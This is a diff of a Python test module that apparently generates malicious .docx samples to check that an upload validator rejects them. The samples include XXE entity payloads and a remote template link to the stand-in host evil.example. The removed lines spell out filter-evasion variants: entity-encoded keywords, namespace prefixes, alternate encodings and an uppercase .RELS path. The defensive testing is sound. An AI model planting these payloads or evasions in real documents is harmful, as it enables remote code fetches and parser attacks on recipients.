@@ -16,6 +16,8 @@ from typing import NamedTuple
 
 from PIL import Image
 
+from tests.spellings import other_spellings
+
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
 ENCRYPTED = OLE + "EncryptedPackage".encode("utf-16-le")
 BIG = 20_000_001
@@ -360,17 +362,10 @@ def _active() -> Iterable[Bad]:
     wide = XXE.decode().encode("utf-16")
     yield Bad("宽实体.docx", lambda: package(body=wide), "upload_outside")
     far = relations("attachedTemplate", "http://evil.example/t.dotm")
-    for told in (
-        b'<?xml version="1.0" encoding="UTF-16"?>'.decode().encode("utf-16")
-        + far.decode().encode("utf-16-le"),
-        far.replace(b"External", b"&#69;xternal"),
-        far.replace(b"http", b"&#104;ttp"),
-        far.replace(b"<Rel", b"<x:Rel").replace(b"</Rel", b"</x:Rel"),
-        b'<?xml version="1.0" encoding="GBK"?>' + far.replace(b"r1", "模板".encode("gbk")),
-        b"<!DOCTYPE Relationships>" + relations("hyperlink", "https://example.gov.cn/"),
-    ):
-        for name in ("word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS"):
-            made = package(parts={name: told})
+    near = relations("hyperlink", "https://example.gov.cn/")
+    for told in other_spellings(far, near):
+        for end in ("rels", "RELS"):
+            made = package(parts={f"word/_rels/settings.xml.{end}": told})
             yield Bad("别样外链.docx", is_(made), "upload_outside")
     late = b'<?xml version="1.0"?><!--' + b"x" * 70_000 + b"-->" + XXE.partition(b"?>")[2]
     yield Bad("晚实体.docx", lambda: package(parts=NOISE, body=late), "upload_broken")
